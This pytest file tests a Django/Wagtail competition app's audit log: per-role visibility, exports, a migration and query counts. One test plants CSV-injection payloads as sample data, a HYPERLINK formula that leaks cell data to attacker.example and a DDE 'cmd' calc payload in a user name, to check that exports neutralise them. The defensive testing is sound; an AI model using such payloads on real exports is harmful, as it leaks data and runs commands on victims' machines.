"""The audit log: each user reads only the entries of objects they may see, on the site history
report, its CSV and XLSX exports and its filters, and in each object's history; the scored
agency never learns who scored it."""

import io
from datetime import date
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.log_actions import log

from competition.domain import evidence, jury
from competition.domain.roles import EDITORS, REVIEWERS, ensure_roles
from competition.models import Adjustment, AgencyMembership, CommitmentLine, CompetitionLogEntry, Juror, Submission
from tests.factories import AgencyFactory, UserFactory, make_commitment, make_competition, make_target, manager_of

pytestmark = pytest.mark.django_db

SITE_HISTORY = "/admin/reports/site-history/"


@pytest.fixture
def world():
    """Hanoi and HCMC, each with an agency, its editor, a manager of that competition only, a
    juror (and adjustment, editor membership) recorded by the superuser, and a submission scored
    by a reviewer."""
    groups = ensure_roles()
    root = UserFactory(username="root", is_superuser=True, is_staff=True)
    users = {"root": root}
    for slug, code in (("hanoi", "HN-OFFICE"), ("hcmc", "HCMC-DNV")):
        competition = make_competition(slug=slug, title=f"{slug.upper()} competition")
        target = make_target(competition, code="T1")
        agency = AgencyFactory(code=code, name=f"{code} agency")
        make_commitment(competition, agency, [target])
        editor = UserFactory(username=f"editor.{slug}")
        editor.groups.add(groups[EDITORS])
        membership = AgencyMembership.objects.create(user=editor, agency=agency)
        reviewer = UserFactory(username=f"juror.{slug}")
        reviewer.groups.add(groups[REVIEWERS])
        juror = Juror.objects.create(competition=competition, user=reviewer)
        adjustment = Adjustment.objects.create(
            competition=competition, agency=agency, points=2, reason=f"Reason only {slug} may read"
        )
        for instance in (membership, juror, adjustment):
            log(instance, "wagtail.create", user=root)
        submission = Submission.objects.create(
            line=CommitmentLine.objects.get(commitment__agency=agency),
            reported_on=date(2025, 6, 30),
            value=50,
            created_by=editor,
        )
        log(submission, "wagtail.create", user=editor)
        evidence.submit(submission, editor)
        jury.record_score(submission, reviewer, Decimal(7), "Solid")
        users.update(
            {
                f"editor.{slug}": editor,
                f"juror.{slug}": reviewer,
                f"manager.{slug}": manager_of(competition, f"manager.{slug}"),
            }
        )
        users[f"submission.{slug}"] = submission
    return users


def export(client, file_format):
    response = client.get(SITE_HISTORY, {"export": file_format})
    assert response.status_code == 200
    if file_format == "csv":
        return b"".join(response.streaming_content).decode()
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return "\n".join(
        ",".join(str(cell) for cell in row if cell is not None) for row in sheet.iter_rows(values_only=True)
    )


def site_history(client, user):
    """The site history page (with its filters), and its CSV and XLSX exports, as one text."""
    client.force_login(user)
    page = client.get(SITE_HISTORY)
    assert page.status_code == 200
    return "\n".join([page.content.decode(), export(client, "csv"), export(client, "xlsx")])


HCMC_ONLY = ["Reason only hcmc may read", "juror.hcmc", "editor.hcmc", "HCMC-DNV agency"]
HANOI_ONLY = ["Reason only hanoi may read", "juror.hanoi", "editor.hanoi", "HN-OFFICE agency"]


def test_a_manager_of_one_competition_reads_only_its_entries(client, world):
    shown = site_history(client, world["manager.hanoi"])

    assert [text for text in HANOI_ONLY if text not in shown] == []
    assert [text for text in HCMC_ONLY if text in shown] == []


def test_the_superuser_reads_every_entry(client, world):
    shown = site_history(client, world["root"])

    assert [text for text in HANOI_ONLY + HCMC_ONLY if text not in shown] == []


def test_an_editor_reads_their_agencys_entries_but_never_who_scored_them(client, world):
    shown = site_history(client, world["editor.hcmc"])

    assert "Evidence submitted" in shown and "HCMC-DNV · T1" in shown
    assert "juror.hcmc" not in shown and "Jury score recorded" not in shown
    assert [text for text in HANOI_ONLY if text in shown] == []


def test_a_reviewer_reads_only_what_they_did(client, world):
    shown = site_history(client, world["juror.hcmc"])

    assert "Jury score recorded" in shown
    assert "Reason only hcmc may read" not in shown and "editor.hcmc" not in shown
    assert [text for text in HANOI_ONLY if text in shown] == []


def test_the_site_history_joins_its_log_models_in_one_union(rf, world):
    """Wagtail 8.0 nests one UNION in the next; with our third log model the inner one keeps an
    ORDER BY that SQLite refuses on Django 6.1. One flat UNION ALL of the three reads the same."""
    from wagtail.admin.views.reports.audit_logging import LogEntriesView
    from wagtail.log_actions import registry

    log(Group.objects.create(name="Auditors"), "wagtail.create", user=world["root"])  # Wagtail's model log
    request = rf.get(SITE_HISTORY)
    request.user = world["root"]
    view = LogEntriesView()
    view.setup(request)
    view.filters = None
    query = view.get_filtered_queryset().query

    assert len(registry.get_log_entry_models()) == 3
    assert query.combinator == "union" and query.combinator_all
    assert [part.model for part in query.combined_queries] == view.log_models
    assert [part.combinator for part in query.combined_queries] == [None, None, None]
    entries = {entry.__class__.__name__ for entry in view.decorate_paginated_queryset(view.get_filtered_queryset())}
    assert entries == {"CompetitionLogEntry", "ModelLogEntry", "PageLogEntry"}


def test_a_submission_history_hides_the_reviewers_from_the_agency(client, world):
    submission = world["submission.hcmc"]
    history = reverse("wagtailsnippets_competition_submission:history", args=[submission.pk])

    client.force_login(world["editor.hcmc"])
    for_editor = client.get(history).content.decode()
    client.force_login(world["manager.hcmc"])
    for_manager = client.get(history).content.decode()

    assert "Evidence submitted" in for_editor and "editor.hcmc" in for_editor
    assert "juror.hcmc" not in for_editor and "Jury score recorded" not in for_editor
    assert "juror.hcmc" in for_manager and "Jury score recorded" in for_manager


def test_existing_entries_move_to_the_competitions_log(world):
    """The migration moves Wagtail's model log entries of the competition's models (and only
    those) into the competition's log, field for field, and back."""
    import importlib

    from django.apps import apps
    from wagtail.models import ModelLogEntry

    migration = importlib.import_module("competition.migrations.0007_competition_log")
    ours = list(CompetitionLogEntry.objects.order_by("pk").values_list(*migration.FIELDS))
    user_entry = log(world["root"], "wagtail.edit", user=world["root"])

    migration.backwards(apps, None)
    assert not CompetitionLogEntry.objects.exists()
    assert ModelLogEntry.objects.filter(content_type__app_label="competition").count() == len(ours)
    migration.forwards(apps, None)

    assert list(CompetitionLogEntry.objects.order_by("pk").values_list(*migration.FIELDS)) == ours
    assert list(ModelLogEntry.objects.values_list("pk", flat=True)) == [user_entry.pk]


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def test_no_cell_of_the_site_history_csv_is_a_formula(client, world):
    import csv

    from competition.spreadsheets import FORMULA_STARTS

    agency = AgencyFactory(code="EVIL", name=FORMULA)
    log(agency, "wagtail.create", user=world["root"])
    world["root"].first_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world["root"].save()
    log(agency, "wagtail.edit", user=world["root"])
    client.force_login(world["root"])

    text = export(client, "csv")

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert f"'{FORMULA} (EVIL)" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    # The XLSX export keeps such cells as text, as they were entered (Wagtail does).
    assert f"{FORMULA} (EVIL)" in export(client, "xlsx")


def test_the_system_check_asks_for_the_export_middleware(settings):
    from competition.checks import check_evidence_download_middleware

    assert check_evidence_download_middleware(None) == []
    settings.MIDDLEWARE = [m for m in settings.MIDDLEWARE if not m.endswith("SpreadsheetExportMiddleware")]
    assert [warning.id for warning in check_evidence_download_middleware(None)] == ["competition.W002"]


def test_csv_rows_split_across_chunks_are_neutralised_whole():
    from competition.spreadsheets import neutralise_csv

    chunks = ["id,=name\r\n", '1,"=multi\n', 'line",-2\r\n', b"2,@x\r\n", "3,+tail"]

    assert b"".join(neutralise_csv(chunks)).decode() == ("id,'=name\r\n1,\"'=multi\nline\",-2\r\n2,'@x\r\n3,'+tail\r\n")


def test_the_site_history_query_count_does_not_grow(client, world, django_assert_max_num_queries):
    manager = world["manager.hcmc"]
    adjustment = Adjustment.objects.get(reason="Reason only hcmc may read")
    client.force_login(manager)

    def entries(count):
        for _ in range(count):
            log(adjustment, "wagtail.edit", user=world["root"])

    entries(60)  # more than a page (50 entries)
    with django_assert_max_num_queries(250) as few:
        assert client.get(SITE_HISTORY).status_code == 200
    entries(120)
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert client.get(SITE_HISTORY).status_code == 200
